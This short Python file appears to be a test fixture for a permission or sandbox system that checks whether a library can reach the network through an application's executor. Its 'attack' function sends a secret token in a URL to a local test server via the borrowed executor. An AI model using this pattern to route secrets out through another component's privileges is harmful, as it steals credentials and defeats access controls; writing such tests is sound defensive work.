# culprit: pkg:pypi/simple-library caller: pkg:pypi/simple-library right: @net-out twin: same
# SPDX-License-Identifier: Apache-2.0
"""A page fetched by the application's executor for the library."""

import urllib.request


def benign(stage):
    return stage.executor.submit(len, "hello").result()


def attack(stage):
    url = f"http://127.0.0.1:{stage.port}/{stage.token.decode()}"
    stage.executor.submit(urllib.request.urlopen, url, None, 2).exception()
